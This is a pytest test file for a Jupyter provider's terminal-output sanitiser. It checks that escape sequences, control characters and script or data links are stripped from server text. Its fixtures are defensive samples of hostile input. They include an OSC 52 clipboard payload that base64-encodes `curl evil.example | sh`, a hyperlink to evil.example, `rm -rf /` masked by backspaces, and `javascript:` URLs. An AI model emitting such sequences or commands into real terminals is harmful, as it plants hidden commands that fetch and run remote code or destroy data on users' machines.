"""Server text printed to a terminal (stdout, stderr, text/plain) carries no escape sequence and no
control character but tab and newline. The sequences are those of ECMA-48 and xterm's ctlseqs
(https://invisible-island.net/xterm/ctlseqs/ctlseqs.html) that a hostile reply could use."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from jupyter_providers._render import terminal_text

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
SEQUENCES = {
    "SGR colour": f"{ESC}[31;1m",
    "SGR reset": f"{ESC}[0m",
    "erase display": f"{ESC}[2J",
    "cursor home": f"{ESC}[H",
    "cursor up": f"{ESC}[5A",
    "erase line": f"{ESC}[2K",
    "private mode (alt screen)": f"{ESC}[?1049h",
    "hide cursor": f"{ESC}[?25l",
    "bracketed paste off": f"{ESC}[?2004l",
    "window op (report title)": f"{ESC}[21t",
    "window op (resize)": f"{ESC}[8;100;100t",
    "DECRQSS": f"{ESC}P$qm{ST}",
    "DCS sixel": f"{ESC}Pq#0;2;0;0;0#1~~{ST}",
    "OSC 0 title, BEL": f"{ESC}]0;pwned{BEL}",
    "OSC 2 title, ST": f"{ESC}]2;pwned{ST}",
    "OSC 52 clipboard write": f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}",
    "OSC 52 clipboard query": f"{ESC}]52;c;?{BEL}",
    "OSC 8 hyperlink": f"{ESC}]8;;https://evil.example/{ST}click{ESC}]8;;{ST}",
    "OSC 7 cwd": f"{ESC}]7;file://host/etc{BEL}",
    "OSC 1337 (iTerm2 file)": f"{ESC}]1337;File=name=eA==:eA=={BEL}",
    "OSC unterminated": f"{ESC}]52;c;AAAA",
    "APC": f"{ESC}_Gf=100;AAAA{ST}",
    "PM": f"{ESC}^private{ST}",
    "SOS": f"{ESC}Xstring{ST}",
    "RIS full reset": f"{ESC}c",
    "DECSC save cursor": f"{ESC}7",
    "charset G0 line drawing": f"{ESC}(0",
    "DECALN screen test": f"{ESC}#8",
    "keypad application": f"{ESC}=",
    "index": f"{ESC}D",
    "8-bit CSI": "\x9b2J",
    "8-bit OSC 52": "\x9d52;c;AAAA\x9c",
    "8-bit DCS": "\x90q\x9c",
    "8-bit NEL": "\x85",
    "lone ESC": ESC,
    "CR overwrite": "safe\rEVIL",
    "backspaces": "rm -rf /\x08\x08\x08\x08\x08\x08\x08\x08ls",
    "BEL": BEL,
    "NUL": "\x00",
    "DEL": "\x7f",
    "VT and FF": "\x0b\x0c",
    "SI/SO": "\x0e\x0f",
}
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.mark.parametrize("name", sorted(SEQUENCES))
def test_escape_sequences_are_neutralised(name: str) -> None:
    out = terminal_text(f"before {SEQUENCES[name]} after\n\tend")
    assert not CONTROL.search(out), repr(out)
    assert out.startswith("before ") and out.endswith(" after\n\tend")


def test_osc_payloads_do_not_survive_as_commands() -> None:
    out = terminal_text(SEQUENCES["OSC 52 clipboard write"] + SEQUENCES["OSC 8 hyperlink"])
    assert "52;" not in out and "Y3Vyb" not in out and "evil.example" not in out and out == "click"


def test_crlf_is_a_newline_and_plain_text_is_unchanged() -> None:
    assert terminal_text("a\r\nb") == "a\nb"
    text = "Plain reply: tabs\tand lines\nand Unicode – é 日本 🙂 [31m"
    assert terminal_text(text) is text


def test_a_sequence_split_across_pieces_is_harmless() -> None:
    """The streaming printer neutralises each piece: a sequence cut in two leaves no control character."""
    seq = SEQUENCES["OSC 52 clipboard write"] + SEQUENCES["SGR colour"]
    for cut in range(len(seq)):
        out = terminal_text(seq[:cut]) + terminal_text(seq[cut:])
        assert not CONTROL.search(out)


@given(st.text(alphabet=st.characters(max_codepoint=0x2FF)))
def test_no_control_character_survives_and_lines_stay(text: str) -> None:
    out = terminal_text(text)
    assert not CONTROL.search(out)
    assert out.count("\n") >= text.count("\n") - len(re.findall(r"\x1b[\]P_^X\x90\x9d\x98\x9e\x9f]", text))


@pytest.mark.parametrize(
    "url", ["javascript://%0aalert(1)", "JavaScript://x", "data:text/html,<script>", "vbscript://x", "xhttps://a"]
)
def test_text_makes_no_script_or_data_link_in_a_front_end(url: str) -> None:
    """JupyterLab links any ``scheme://`` and ``data:`` in text output: those lose the pattern, invisibly."""
    out = terminal_text(f"see {url} now")
    assert not re.search(r"[a-zA-Z][a-zA-Z0-9+.-]{2,40}://|data:", out)
    assert out.replace("\u2060", "") == f"see {url} now"


def test_web_links_stay_links() -> None:
    text = "see https://example.com/a and HTTP://b.example www.c.example"
    assert terminal_text(text) == text
